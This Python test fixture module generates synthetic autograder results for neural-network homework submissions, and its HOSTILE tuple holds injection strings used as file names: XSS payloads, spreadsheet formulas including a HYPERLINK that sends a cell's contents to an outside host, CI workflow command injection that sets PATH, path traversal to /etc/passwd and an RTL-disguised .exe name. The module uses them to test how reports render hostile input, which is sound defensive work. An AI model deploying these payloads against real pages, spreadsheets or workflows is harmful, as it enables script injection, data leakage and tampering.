"""Results of runs that never were, as schema version 2 describes them: what the reports are tested on.

``result(count)`` is a class of so many submissions under an assignment, the same each time; ``HOSTILE`` are texts that
a page, a table or a workflow would obey if it took them for more than text.
"""

import random
from typing import Any

from tests.harness.spec.clauses import CLAUSES, TEXTBOOK

WORTH = {"sigmoid": 2, "softmax": 3, "binary_cross_entropy": 3, "mean_squared_error": 2, "neuron": 1, "network": 5}
CONFORMS, FAILS, ERROR, NOT_JUDGED, NOT_IMPLEMENTED = "conforms", "fails", "error", "not judged", "not implemented"
MISTAKES = {
    "sigmoid": ["has the factor 2 of tanh", "forgets the minus sign in the exponent"],
    "softmax": ["divides by the sums of the columns", "divides by the number of classes"],
    "binary_cross_entropy": ["sums over the batch instead of taking the mean"],
    "mean_squared_error": ["lacks the factor 1/2", "takes the root of the mean"],
    "neuron": ["subtracts the bias"],
    "network": ["applies the sigmoid before the loss that contains it"],
}
HOSTILE = (
    "<script>document.title = 'ran'</script>.py",
    "</script><img src=x onerror=alert(1)>.py",
    '"><svg onload=alert(1)>.py',
    '=HYPERLINK("http://a.example/?"&A1,"ok").py',
    "+1+1.py",
    "-1+1.py",
    "@SUM(A1).py",
    "\t=1+1.py",
    "\r=1+1.py",
    "a;=1+1;.py",
    "x,=1+1.py",
    "::error file=a.py::pwned.py",
    "\n::set-env name=PATH::x.py",
    "%0A::error::.py",
    "\u202egp.exe\u202c.py",
    "\x1b[31mred\x1b[0m\x00\x07.py",
    "caf\udce9.py",
    "../../etc/passwd",
    "..",
    ".hidden.py",
    "CON",
    "con.py",
    "Bob.py",
    "bob.py",
    "BOB.PY",
    "a/b.py",
    "a_b.py",
    "a\\b.py",
    "{{ 7 * 7 }}{% raw %}.py",
    "`code` **bold** [link](http://a.example) |cell| @user #1.py",
    "```\n# heading.py",
    "$\\frac{1}{2}$.py",
    "שלום عليكم.py",
    "\u200b.py",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A͑.py",
    "&lt;b&gt;&amp;.py",
    "x" * 300 + ".py",
)


def clause(id: str, outcome: str = "passed", **more: Any) -> dict[str, Any]:
    """One clause, passed where it is not said otherwise."""
    plain = {"message": None, "counterexample": None, "expected": None, "actual": None, "cause": None, "severity": None}
    known = {"level": CLAUSES[id].level if id in CLAUSES else TEXTBOOK, "outcome": outcome, "examples": 25}
    return {**known, "max_error_ratio": 0.25, **plain, "diagnosis": [], **more}


def wrong(id: str, function: str, phrase: str | None, **more: Any) -> dict[str, Any]:
    """A clause that fails with a wrong value."""
    said = {
        "message": "at index (0, 0): got 1.0, expected 0.5 (off by 0.5, allowed 1e-07)",
        "counterexample": f"import numpy as np\n{function}(np.array([[0.0, 0.0]]))",
        "expected": "[[0.5, 0.5]]",
        "actual": "[[1., 1.]]",
        "diagnosis": [phrase] if phrase else [],
        "severity": "wrong",
        "max_error_ratio": 5e6,
    }
    return clause(id, "failed", **{**said, **more})


def curve() -> dict[str, Any]:
    """An error that grows with the input, and overflows at its end."""
    inputs = [float(z) for z in range(-40, 41)]
    error = [None if z > 38 else 1e-16 * 10 ** (abs(z) / 8) for z in inputs]
    return {"label": "z", "input": inputs, "error": error, "allowed": [1e-14] * len(inputs)}


def function(name: str, verdict: str, phrase: str | None = None, own: str | None = None) -> dict[str, Any]:
    """One function of the textbook level with that verdict, and the points that it earns."""
    ids = [one.id for one in CLAUSES.values() if one.function == name and one.level == TEXTBOOK] or ["NETWORK-VALUE"]
    clauses = {id: clause(id) for id in ids}
    if verdict == FAILS:
        clauses[ids[0]] = wrong(ids[0], own or name, phrase, curve=curve() if name == "sigmoid" else None)
        clauses.update({id: wrong(id, own or name, None, cause="SIGMOID-VALUE") for id in ids[2:3]})
        clauses.update({id: wrong(id, own or name, phrase) for id in ids[3:4]})
    if verdict == ERROR:
        said = {"message": f"{name}: ValueError: operands could not be broadcast (homework.py:12)", "severity": "crash"}
        clauses[ids[0]] = clause(ids[0], "error", **said, counterexample=f"{name}(np.array([[1.0]]))")
    if verdict in (NOT_IMPLEMENTED, NOT_JUDGED):
        clauses = {id: clause(id, "skipped", examples=0, max_error_ratio=None) for id in ids}
    reason = {NOT_IMPLEMENTED: f"no function of the name {name}", NOT_JUDGED: "say which TASK: binary or multiclass"}
    passed = sum(one["outcome"] == "passed" for one in clauses.values())
    earned = WORTH[name] if verdict == CONFORMS else 0
    return {
        "textbook": verdict,
        "robust": verdict if verdict != CONFORMS else "not run",
        "reason": reason.get(verdict),
        "credit": {"textbook": f"{passed}/{len(clauses)}", "robust": f"{passed}/{len(clauses)}"},
        "points": None if verdict == NOT_JUDGED else {"earned": earned, "possible": WORTH[name]},
        "name": own or (None if verdict == NOT_IMPLEMENTED else name),
        "clauses": clauses,
    }


def row(name: str, functions: dict[str, dict[str, Any]], **more: Any) -> dict[str, Any]:
    """One submission with these functions; relu and tanh are neither asked for nor there."""
    levels = [one["textbook"] for one in functions.values()]
    verdict = next((one for one in (ERROR, FAILS, NOT_JUDGED) if one in levels), CONFORMS)
    points = [one["points"] for one in functions.values() if one["points"]]
    absent = {one: {"textbook": NOT_IMPLEMENTED, "robust": NOT_IMPLEMENTED} for one in ("relu", "tanh")}
    known = {
        "name": name,
        "spec": f"submissions/{name}",
        "arrays": "numpy",
        "device": "cpu",
        "required_level": TEXTBOOK,
        "verdict": FAILS if NOT_IMPLEMENTED in levels and verdict == CONFORMS else verdict,
        "reason": None,
        "credit": {"textbook": "30/36", "robust": "30/36"},
        "complete": True,
        "sha256": "0123456789abcdef" * 4,
        "declared": {"TASK": "binary"},
        "not_looked_at": ["compute_loss", "predict"],
        "points": {key: sum(one[key] for one in points) for key in ("earned", "possible")} if points else None,
        "isolation": "process, no network",
        "remarks": [],
        "functions": {**functions, **absent},
    }
    return {**known, **more}


def submission(name: str, seed: int) -> dict[str, Any]:
    """One submission, the same for the same seed: mostly right."""
    chance = random.Random(seed)
    functions = {}
    for one in WORTH:
        kinds, weights = (CONFORMS, FAILS, ERROR, NOT_JUDGED, NOT_IMPLEMENTED), (70, 18, 4, 2, 6)
        verdict = chance.choices(kinds, weights)[0]
        own = chance.choice([None, None, f"my_{one}"]) if verdict != NOT_IMPLEMENTED else None
        functions[one] = function(one, verdict, chance.choice(MISTAKES[one]), own)
    return row(name, functions)


def result(count: int, names: tuple[str, ...] = ()) -> dict[str, Any]:
    """A class of ``count`` submissions, or one for each of ``names``."""
    names = names or tuple(f"student{number:04}.py" for number in range(1, count + 1))
    return {
        "schema_version": 2,
        "suite": {
            "profile": "quick",
            "seed": 0,
            "level": "textbook",
            "duration_s": 12.5,
            "sources": "0123456789abcdef",
            "asked": {"assignment": {"path": "homework.toml", "name": "Homework 1"}, "call_seconds": 10.0},
            "assignment": {"name": "Homework 1", "level": "textbook", "points": WORTH},
        },
        "environment": {
            "python": "3.11.7",
            "platform": "linux",
            "numpy": "2.4.6",
            "devices": {"numpy on cpu": "present"},
        },
        "implementations": [submission(name, seed) for seed, name in enumerate(names)],
    }
